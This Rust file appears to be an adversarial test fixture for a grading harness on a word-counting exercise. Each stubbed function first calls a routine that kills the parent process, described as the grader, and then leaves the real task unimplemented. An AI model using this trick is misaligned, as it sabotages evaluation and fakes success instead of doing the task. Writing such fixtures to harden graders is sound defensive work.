//! Kills the process that started it, the grader in the old design.

use std::collections::BTreeMap;
use std::process::Command;
use std::sync::Once;

use crossbeam_channel::{Receiver, Sender};

fn attack() {
    let parent = std::os::unix::process::parent_id().to_string();
    let _ = Command::new("kill").args(["-KILL", &parent]).status();
}

static ONCE: Once = Once::new();

pub fn produce(_text: String, _words: Sender<String>) {
    ONCE.call_once(attack);
    todo!()
}

pub fn collect(_words: Receiver<String>) -> BTreeMap<String, usize> {
    ONCE.call_once(attack);
    todo!()
}

pub fn count_words<R: FnOnce() -> String + Send + 'static>(_sources: Vec<R>) -> BTreeMap<String, usize> {
    ONCE.call_once(attack);
    todo!()
}
